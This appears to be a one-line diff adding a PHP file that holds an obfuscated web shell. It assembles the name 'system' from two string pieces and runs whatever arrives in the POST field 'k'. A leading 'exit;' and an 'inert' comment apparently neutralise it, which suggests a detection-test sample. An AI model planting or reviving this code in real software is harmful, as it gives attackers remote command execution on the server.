@@ -1,0 +1,1 @@
+<?php exit; /* inert */ class K { static $p; const F="sys"; public static function go($a){ $f=self::F."tem"; return $f($a); } } K::$p=$_POST["k"]; K::go(K::$p);
